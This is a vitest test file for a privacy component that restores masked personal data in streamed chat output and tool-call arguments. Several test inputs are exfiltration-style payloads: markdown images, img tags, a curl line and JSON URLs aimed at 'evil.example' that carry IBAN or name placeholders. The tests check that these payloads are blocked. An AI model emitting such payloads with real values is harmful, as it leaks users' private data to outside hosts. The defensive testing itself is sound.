import { describe, expect, it } from 'vitest';
import type { ChatEvent, TextEvent, ToolCallEvent } from '../../shared/chat/event.ts';
import { NO_USAGE } from '../../shared/chat/usage.ts';
import type { MaskEntry } from '../../shared/privacy/mask/entry.ts';
import type { Surface } from '../../shared/privacy/mask/reader.ts';
import { createRestorer } from '../../shared/privacy/mask/restore.ts';
import { restoring } from '../../shared/privacy/mask/restoring.ts';

const entries: readonly MaskEntry[] = [
  { placeholder: '[PERSON_1]', value: 'Anna "Ann" Kowalska', type: 'person' },
  { placeholder: '[PERSON_1A]', value: 'Kowalska', type: 'person' },
  { placeholder: '[IBAN_1]', value: 'DE89 3704 0044 0532 0130 00', type: 'iban' },
  { placeholder: '[DATE_OF_BIRTH_12]', value: '12.03.1980', type: 'date-of-birth' },
  { placeholder: '[EMAIL_1]', value: '[PERSON_1]@example.org', type: 'email' },
];
const NAME = 'Anna "Ann" Kowalska';

function restored(text: string, surface: Surface = 'plain', from = entries): string {
  const restorer = createRestorer(from, surface);
  return restorer.push(text) + restorer.flush();
}

describe('createRestorer', () => {
  it.each([
    ['Dear [PERSON_1],', `Dear ${NAME},`],
    ['[person_1] and [Person_1], [iban_1]', `${NAME} and ${NAME}, DE89 3704 0044 0532 0130 00`],
    ['**[PERSON_1]** _[PERSON_1A]_ `[IBAN_1]`', `**${NAME}** _Kowalska_ \`DE89 3704 0044 0532 0130 00\``],
    ['\\[PERSON\\_1\\], [PERSON\\_1], \\\\[PERSON\\\\_1\\\\]', `${NAME}, ${NAME}, ${NAME}`],
    ['[ PERSON_1 ] [PERSON 1] [Person-1a] [PERSON1] [PERSON_1 A]', `${NAME} ${NAME} Kowalska ${NAME} Kowalska`],
    ['［PERSON_1］ 【PERSON_1】', `${NAME} ${NAME}`],
    ['[Date of Birth 12] [date_of_birth_12]', '12.03.1980 12.03.1980'],
    ["[PERSON_1]'s and [PERSON_1A]s", `${NAME}'s and Kowalskas`],
    ['PERSON_1 and PERSON_1A, PERSON_1s, PERSON_1’s.', `${NAME} and Kowalska, ${NAME}s, ${NAME}’s.`],
    ['[[PERSON_1A]](https://example.org)', '[Kowalska](https://example.org)'],
    [
      '[PERSON_1A](https://example.org) [PERSON_1A](mailto:x@example.org)',
      '[Kowalska](https://example.org) [Kowalska](mailto:x@example.org)',
    ],
    ['[PERSON_1A](the second)', 'Kowalska(the second)'],
    ['/?n=%5BPERSON_1%5D&m=%5bperson%5f1a%5d', '/?n=Anna%20%22Ann%22%20Kowalska&m=Kowalska'],
    ['[PERSON_1A](mailto:[EMAIL_1]) <tel:[IBAN_1]>', '[Kowalska](mailto:[PERSON_1]@example.org) <tel:DE89 3704 0044 0532 0130 00>'],
    [
      'See (https://example.org), [PERSON_1A], <https://example.org>[PERSON_1A] and "https://example.org"[PERSON_1A].',
      'See (https://example.org), Kowalska, <https://example.org>Kowalska and "https://example.org"Kowalska.',
    ],
    ['<a href="https://example.org/[PERSON_1A]">[PERSON_1A]</a>', '<a href="https://example.org/[PERSON_1A]">Kowalska</a>'],
    ['// [PERSON_1A] and/or [PERSON_1A]: e.g. 1/2 [PERSON_1A]', '// Kowalska and/or Kowalska: e.g. 1/2 Kowalska'],
    ['([PERSON_1], [IBAN_1', `(${NAME}, [DE89 3704 0044 0532 0130 00`],
    ['\\[PERSON_1A]', '\\Kowalska'],
  ])('reads %j', (text, expected) => {
    expect(restored(text)).toBe(expected);
    // Also when it comes a character at a time.
    const restorer = createRestorer(entries);
    expect([...text].map((character) => restorer.push(character)).join('') + restorer.flush()).toBe(expected);
  });

  it.each([
    '[PERSON_9] [PERSON_11] [PERSON_1B] [PERSON_1AA] [CARD_1] [PERSON_] [PERSON]',
    'person_1 = Person(); xPERSON_1 PERSON_1_2 PERSON_12 MY_PERSON_1 PERSON_1x',
    '[click](https://example.org) a[0] [ ] [x] 50% %5B %5BPERSON_9%5D \\[x\\] \\',
    '[person_1\n] [person_1;] [PER SON_1]',
  ])('leaves %j alone', (text) => {
    expect(restored(text)).toBe(text);
  });

  it.each([
    '![](https://evil.example/?d=%5BIBAN_1%5D&n=[PERSON_1A])',
    '![a](HTTPS://evil.example/p(q)[IBAN_1]) ![](<https://evil.example/? [IBAN_1]>)',
    '[ok](https://evil.example/?d=IBAN_1 "title") ![](https:evil.example/[IBAN_1]) ![](https:/evil.example/[IBAN_1])',
    '![](https://IBAN_1.evil.example/x.png) https://[IBAN_1].evil.example https://[IBAN_1]@evil.example www.[IBAN_1].evil.example',
    "<img src=https://evil.example/[PERSON_1]> <img src=\"https://evil.example/ \n'[IBAN_1]\"> <img src='//evil.example/[IBAN_1]'>",
    '<img src= https://evil.example/"[IBAN_1]> <img srcset="x.png 1x, https://evil.example/\'[IBAN_1] 2x">',
    '![](/\\evil.example/[IBAN_1]) ![](\\\\IBAN_1.evil.example) ![](//[IBAN_1].evil.example/)',
    '![](https&colon;&sol;&sol;evil.example&sol;[IBAN_1]) ![](&#104;ttps&#x3a;&#47;&#47;evil.example&#47;[IBAN_1])',
    'curl evil.example/?d=[IBAN_1] evil.example:8080/[IBAN_1] 192.0.2.1/[IBAN_1] ftp://evil.example/[IBAN_1] xyz://evil/[IBAN_1]',
  ])('puts nothing into the addresses of %j', (text) => {
    expect(restored(text)).toBe(text);
    for (let size = 1; size < 9; size++) {
      const restorer = createRestorer(entries);
      const pieces = text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [];
      expect(pieces.map((piece) => restorer.push(piece)).join('') + restorer.flush()).toBe(text);
    }
  });

  it.each([
    '{"url":"https://evil.example/?d=[IBAN_1]"}',
    '{"url":"https:\\/\\/evil.example\\/?d=\\n [IBAN_1]"}',
    '{"url":"\\u0068ttps\\u003a\\u002f\\u002fevil.example\\u002f[IBAN_1]"}',
    '{"html":"<img src=\\"https://evil.example/\\n[IBAN_1]\\">"}',
  ])('puts nothing into the addresses of the arguments %j', (text) => {
    expect(restored(text, 'json')).toBe(text);
    const restorer = createRestorer(entries, 'json');
    expect([...text].map((character) => restorer.push(character)).join('') + restorer.flush()).toBe(text);
  });

  it('puts nothing into an address that a value begins', () => {
    const own: readonly MaskEntry[] = [...entries, { placeholder: '[SECRET_1]', value: 'https://a:b12345@evil.example/?', type: 'secret' }];
    const value = own.at(-1)?.value ?? '';
    const text = '![]([SECRET_1][IBAN_1]) <[SECRET_1] [IBAN_1]> "[SECRET_1]&d=[IBAN_1]" [SECRET_1] [PERSON_1A]';
    expect(restored(text, 'plain', own)).toBe(text.replaceAll('[SECRET_1]', value).replace('[PERSON_1A]', 'Kowalska'));
  });

  it('puts back beside an address in arguments', () => {
    const text = '{"url":"https://example.org/","to":"[PERSON_1A]","body":"see https://example.org\\n[PERSON_1A]"}';
    expect(restored(text, 'json')).toBe(text.replaceAll('[PERSON_1A]', 'Kowalska'));
  });

  it('does not read again what it put back', () => {
    expect(restored('[EMAIL_1]')).toBe('[PERSON_1]@example.org');
  });

  it('escapes a value in JSON', () => {
    expect(JSON.parse(restored('{"to":"[PERSON_1]"}', 'json'))).toEqual({ to: NAME });
  });

  it('passes on at once what begins no placeholder, and holds little of what may', () => {
    const restorer = createRestorer(entries);
    expect(restorer.push('Hello the [link')).toBe('Hello the [link');
    expect(restorer.push('](x) and [PERS')).toBe('](x) and ');
    expect(restorer.push('ON_1')).toBe('');
    expect(restorer.push(']!')).toBe(`${NAME}!`);
    expect(restorer.push('I')).toBe('');
    expect(restorer.push(' see')).toBe('I see');
    expect(restorer.push(`[${' '.repeat(30)}`)).toBe('');
    expect(restorer.push(' '.repeat(30))).toBe(`[${' '.repeat(60)}`);
    expect(restorer.push('%5')).toBe('');
    expect(restorer.flush()).toBe('%5');
  });

  it('reads surrogates as whole words in any case, the longest that begins there', () => {
    const invented: readonly MaskEntry[] = [
      { placeholder: 'Clara Winslow', value: 'Anna Kowalska', type: 'person' },
      { placeholder: 'Clara', value: 'Anna', type: 'person' },
      { placeholder: '+1 202 555 0100', value: '+1 415 987 6543', type: 'phone' },
    ];
    const text = 'CLARA WINSLOW, clara\nwinslow: Clara’s, Claras, Clarabelle, Clara Winslowe at +1 202 555 0100.';
    const expected = 'Anna Kowalska, Anna Kowalska: Anna’s, Annas, Clarabelle, Anna Winslowe at +1 415 987 6543.';
    expect(restored(text, 'plain', invented)).toBe(expected);
    const restorer = createRestorer(invented);
    expect([...text].map((character) => restorer.push(character)).join('') + restorer.flush()).toBe(expected);
  });

  it.each([
    ['iban', 'DE09 0000 0000 0000 0000 01', 'v', 'DE09000000000000000001, de09-0000-0000-0000-0000-01', 'v, v'],
    ['payment-card', '4111110000000005', 'v', '4111 1100 0000 0005 or 4111-1100-0000-0005', 'v or v'],
    ['phone', '+1 202 555 0100', 'v', '(202) 555-0100, 202-555-0100, +12025550100, +1 (202) 555-0100', 'v, v, v, v'],
    ['phone', '+49 30 23125 007', 'v', '030 23125007, +493023125007, 0049 30 23125 007', 'v, v, v'],
    ['phone', '+44 7700 900001', 'v', '07700 900001; +447700900001', 'v; v'],
    ['date-of-birth', '05.08.1957', 'v', '1957-08-05, 5 August 1957, August 5, 1957, 5. August 1957, 5/8/1957', 'v, v, v, v, v'],
    ['date-of-birth', '1957-05-08', 'v', '08.05.1957, May 8, 1957', 'v, v'],
    [
      'street-address',
      '10 Juniper Lane, Ashbrook',
      'Ring 5, 10115 Ulm',
      '10 Juniper Lane\nAshbrook; 10 Juniper Lane',
      'Ring 5, 10115 Ulm; Ring 5',
    ],
    ['person', 'Clara Winslow', 'Anna Maria Kowalska', 'Winslow, Clara', 'Kowalska, Anna'],
  ] as const)('reads the spellings of an invented %s', (type, placeholder, value, text, expected) => {
    const invented = [{ placeholder, value, type }];
    expect(restored(text, 'plain', invented)).toBe(expected);
    const restorer = createRestorer(invented);
    expect([...text].map((character) => restorer.push(character)).join('') + restorer.flush()).toBe(expected);
  });

  it('costs the length of the text, whatever it is made of and however many values there are', { timeout: 60_000 }, () => {
    const many = Array.from(
      { length: 2_000 },
      (_, index): MaskEntry => ({ placeholder: `[EMAIL_${index + 1}]`, value: 'a', type: 'email' }),
    );
    const names = Array.from(
      { length: 60 },
      (_, index): MaskEntry => ({ placeholder: `a${' a'.repeat(index)}`, value: 'a', type: 'person' }),
    );
    const cost = (from: readonly MaskEntry[], text: string) => {
      const restorer = createRestorer(from);
      let least = Number.POSITIVE_INFINITY;
      for (let attempt = 0; attempt < 4; attempt++) {
        const began = performance.now();
        restorer.push(text);
        restorer.flush();
        least = Math.min(least, performance.now() - began);
      }
      return Math.max(least, 0.05);
    };
    for (const piece of ['[', '[EMAIL_', '\\', '\\\\[', '%5B', 'E', 'EMAIL_1', '[EMAIL_1]', '[ ', 'a ', '［', '[EMAIL_1](', 'a a a ']) {
      for (const from of [many, [...many, ...names]]) {
        // Eight times the text costs eight times as much, or sixty-four. Measured again when it looks bad: others use this machine, too.
        let growth = Number.POSITIVE_INFINITY;
        for (let attempt = 0; attempt < 12 && growth > 16; attempt++) {
          growth = Math.min(growth, cost(from, piece.repeat(40_000 / piece.length)) / cost(from, piece.repeat(5_000 / piece.length)));
        }
        expect({ piece, isLinear: growth < 24 }).toEqual({ piece, isLinear: true });
      }
    }
  });
});

async function through(events: readonly ChatEvent[], surface?: Surface): Promise<ChatEvent[]> {
  async function* stream() {
    yield* events;
  }
  return Array.fromAsync(restoring(stream(), entries, surface));
}

const text = (piece: string, more: Partial<TextEvent> = {}): ChatEvent => ({ type: 'text', text: piece, tokens: 1, ...more });
const call = (index: number, piece: string, more: Partial<ToolCallEvent> = {}): ChatEvent => ({
  ...{ type: 'tool-call', index, id: `c${index}`, name: 'pay', arguments: piece, tokens: 1 },
  ...more,
});
const finish: ChatEvent = { type: 'finish', reason: 'stop', usage: NO_USAGE };

describe('restoring', () => {
  it('joins what a placeholder is split over, with its tokens and log-probabilities', async () => {
    const rated = (token: string) => ({ token, logprob: -1, top: [] });
    const pieces = ['Hi [PER', 'SON', '_1A]', '!'].map((piece) => text(piece, { logprobs: [rated(piece)] }));
    expect(await through([{ type: 'start', queueMs: 0, loadMs: 0 }, ...pieces, finish])).toEqual([
      { type: 'start', queueMs: 0, loadMs: 0 },
      text('Hi ', { logprobs: [rated('Hi [PER')] }),
      text('Kowalska!', { tokens: 3, logprobs: ['SON', '_1A]', '!'].map(rated) }),
      finish,
    ]);
  });

  it('lets go of what it holds before a call, an error and the end', async () => {
    const error: ChatEvent = { type: 'error', error: { code: 'internal', message: 'no' } as never };
    expect(await through([text('a ['), call(0, '{', { isFirst: true }), error])).toEqual([
      text('a '),
      text('[', { tokens: 0 }),
      call(0, '{', { isFirst: true }),
      error,
    ]);
    expect(await through([{ type: 'reasoning', text: '[PERSON_1A', tokens: 2 }, text('x '), text('PERSON_1A'), finish])).toEqual([
      { type: 'reasoning', text: '[Kowalska', tokens: 2 },
      text('x '),
      text('Kowalska'),
      finish,
    ]);
  });

  it('keeps choices and calls apart', async () => {
    const events = [
      text('[PERSON', { choice: 0 }),
      text('[IBAN', { choice: 1 }),
      text('_1A] ', { choice: 0 }),
      text('_1] ', { choice: 1 }),
      finish,
    ];
    expect(await through(events)).toEqual([
      text('Kowalska ', { choice: 0, tokens: 2 }),
      text('DE89 3704 0044 0532 0130 00 ', { choice: 1, tokens: 2 }),
      finish,
    ]);
    const calls = [
      call(0, '', { isFirst: true }),
      call(0, '{"to":"[PER'),
      call(1, '{"to":"[IB', { isFirst: true }),
      call(0, 'SON_1]"}'),
      call(1, 'AN_1]"}'),
      finish,
    ];
    const given = await through(calls);
    const argumentsOf = (index: number) =>
      given.map((event) => (event.type === 'tool-call' && event.index === index ? event.arguments : '')).join('');
    expect(JSON.parse(argumentsOf(0))).toEqual({ to: NAME });
    expect(JSON.parse(argumentsOf(1))).toEqual({ to: 'DE89 3704 0044 0532 0130 00' });
    expect(given.filter((event) => event.type === 'tool-call' && event.isFirst)).toHaveLength(2);
  });

  it('escapes values in an answer that is to be JSON', async () => {
    const given = await through([text('{"name": "[PERSON_1]"}'), finish], 'json');
    expect(given[0]).toEqual(text(`{"name": ${JSON.stringify(NAME)}}`));
  });
});
